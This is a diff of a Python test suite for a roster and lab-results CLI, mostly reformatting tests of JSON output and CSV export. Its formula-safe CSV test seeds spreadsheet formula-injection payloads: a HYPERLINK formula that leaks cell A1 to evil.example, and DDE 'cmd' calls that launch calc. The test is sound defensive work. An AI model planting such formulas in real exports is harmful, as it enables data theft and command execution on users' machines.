@@ -54,8 +54,10 @@ def _options(command: Any) -> set[str]:
 
 def _results_sheet(tmp_path: Path) -> Path:
     path = tmp_path / "lab.csv"
-    path.write_text("工号,采样时间,检测结果\n0002,2022-05-10 09:00,阴性\n"
-                    "9999,2022-05-10 09:00,阴性\n", encoding="utf-8")
+    path.write_text(
+        "工号,采样时间,检测结果\n0002,2022-05-10 09:00,阴性\n9999,2022-05-10 09:00,阴性\n",
+        encoding="utf-8",
+    )
     return path
 
 
@@ -108,8 +110,11 @@ def test_every_command_takes_json_and_prints_one_document(
 ) -> None:
     commands = dict(_commands())
     assert set(NO_JSON) <= set(commands)
-    without = sorted(path for path, command in commands.items()
-                     if path not in NO_JSON and "--json" not in _options(command))
+    without = sorted(
+        path
+        for path, command in commands.items()
+        if path not in NO_JSON and "--json" not in _options(command)
+    )
     assert without == []
 
     ran = set()
@@ -120,8 +125,9 @@ def test_every_command_takes_json_and_prints_one_document(
         try:
             json.loads(result.stdout)  # exactly one document: trailing data would raise
         except json.JSONDecodeError as exc:
-            raise AssertionError(f"{path}: stdout is not one JSON document: {exc}\n"
-                                 f"{result.stdout[:2000]}") from None
+            raise AssertionError(
+                f"{path}: stdout is not one JSON document: {exc}\n{result.stdout[:2000]}"
+            ) from None
         ran.add(path)
     assert ran == set(commands) - set(NO_JSON), "every command with --json was run"
 
@@ -129,16 +135,30 @@ def test_every_command_takes_json_and_prints_one_document(
 def test_json_is_format_json_and_two_formats_are_refused(cli: Any, tmp_path: Path) -> None:
     roster = write_roster(tmp_path / "roster.xlsx", BASE)
     assert cli("import", str(roster), "--json").exit_code == 0
-    listings = ["people", "roles", "schedule", "missed", "compliance", "alerts", "outbox",
-                "users list", "users sessions"]
+    listings = [
+        "people",
+        "roles",
+        "schedule",
+        "missed",
+        "compliance",
+        "alerts",
+        "outbox",
+        "users list",
+        "users sessions",
+    ]
     for path in listings:
         by_json = cli(*path.split(), "--json", env=ENV)
         by_format = cli(*path.split(), "--format", "json", env=ENV)
         both = cli(*path.split(), "--format", "json", "--json", env=ENV)
         assert by_json.exit_code == by_format.exit_code == both.exit_code == 0, (
-            path, by_json.output, by_format.output, both.output)
-        assert json.loads(by_json.stdout) == json.loads(by_format.stdout) == json.loads(
-            both.stdout), path
+            path,
+            by_json.output,
+            by_format.output,
+            both.output,
+        )
+        assert (
+            json.loads(by_json.stdout) == json.loads(by_format.stdout) == json.loads(both.stdout)
+        ), path
         clash = cli(*path.split(), "--format", "csv", "--json", env=ENV)
         assert clash.exit_code == 2, (path, clash.output)
         assert clash.stdout == ""
@@ -151,7 +171,7 @@ def test_json_is_format_json_and_two_formats_are_refused(cli: Any, tmp_path: Pat
 # ---------------------------------------------------------------- formula-safe CSV
 
 HOSTILE = {
-    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "department": "@SUM(1+1)*cmd|' /C calc'!A0",
     "grid_unit": "+1+cmd|' /C calc'!A0",
     "role": "-2+3+cmd|' /C calc'!A0",
@@ -178,8 +198,16 @@ def test_csv_from_every_listing_is_formula_safe_and_phones_stay_numbers(
         conn.execute(update(Person).where(Person.employee_no == "0001").values(**HOSTILE))
     assert cli("plan", "--week", WEEK, "--json", env=ENV).exit_code == 0
     seen: dict[str, list[dict[str, str]]] = {}
-    for path in ("people", "roles", "schedule", "outbox", "users list", "missed", "compliance",
-                 "alerts"):
+    for path in (
+        "people",
+        "roles",
+        "schedule",
+        "outbox",
+        "users list",
+        "missed",
+        "compliance",
+        "alerts",
+    ):
         result = cli(*path.split(), "--format", "csv", env=ENV)
         assert result.exit_code == 0, (path, result.output)
         rows = _csv(result.stdout)
